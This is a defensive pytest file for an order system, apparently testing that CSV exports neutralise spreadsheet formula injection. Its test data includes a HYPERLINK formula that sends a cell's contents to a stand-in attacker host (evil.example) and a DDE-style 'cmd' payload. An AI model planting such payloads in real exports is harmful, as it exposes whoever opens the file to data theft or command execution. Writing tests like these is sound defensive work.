"""OWASP API10:2023 Unsafe Consumption of APIs: what channels send is data, never code — in
CSV downloads a cell that a spreadsheet would run as a formula is neutralised."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from fastapi.testclient import TestClient

from orderhub.api.csv_out import safe_cell
from orderhub.bootstrap import Container
from orderhub.channels.native import NativeOrder
from orderhub.domain.catalog import Product
from orderhub.services.ingest import ingest_order
from tests.conftest import native_order
from tests.integration.dashboard_support import signed_in
from tests.integration.inventory_helpers import add_locations, receive

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-67.41", "-67.41"),  # a plain number stays a number
        ("R-2", "R-2"),
        (3, 3),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: object, written: object) -> None:
    assert safe_cell(cell) == written


def test_the_reconciliation_csv_neutralises_a_channels_formula(
    client: TestClient, seeded: Container, admin: dict[str, str]
) -> None:
    # The flags a channel adapter sets (channels/base.py); a client's metadata may not.
    draft = NativeOrder.model_validate(native_order(FORMULA)).to_draft()
    flags = {"channel_total": "99.00", "channel_total_matches": False}
    with seeded.uow(actor="test") as uow:
        ingest_order(uow, draft=replace(draft, metadata=flags), source="test", payload="{}")
    params = {"from": "2026-11-20", "to": "2026-11-20", "format": "csv"}
    got = client.get("/v1/reports/reconciliation", params=params, headers=admin)
    assert got.status_code == 200
    rows = list(csv.DictReader(io.StringIO(got.text)))
    assert [r["external_id"] for r in rows] == ["'" + FORMULA]
    assert rows[0]["difference"] == "-67.41"


def test_the_dashboard_inventory_csv_neutralises_a_product_name(
    client: TestClient, seeded: Container
) -> None:
    # Product names arrive from channels' catalogues (imports, syncs) as well as from staff.
    with seeded.uow(actor="test") as uow:
        uow.catalog.upsert(Product("SKU-9", FORMULA, 100))
        uow.commit()
    add_locations(seeded, ("east", 1))
    receive(seeded, "SKU-9", "east", 3)
    receive(seeded, "SKU-1", "east", 3)
    signed_in(client, seeded)
    got = client.get("/inventory.csv")
    assert got.status_code == 200
    assert got.headers["content-type"].startswith("text/csv")
    rows = {row["sku"]: row for row in csv.DictReader(io.StringIO(got.text))}
    assert rows["SKU-9"]["name"] == "'" + FORMULA
    assert rows["SKU-1"]["name"] == "One"
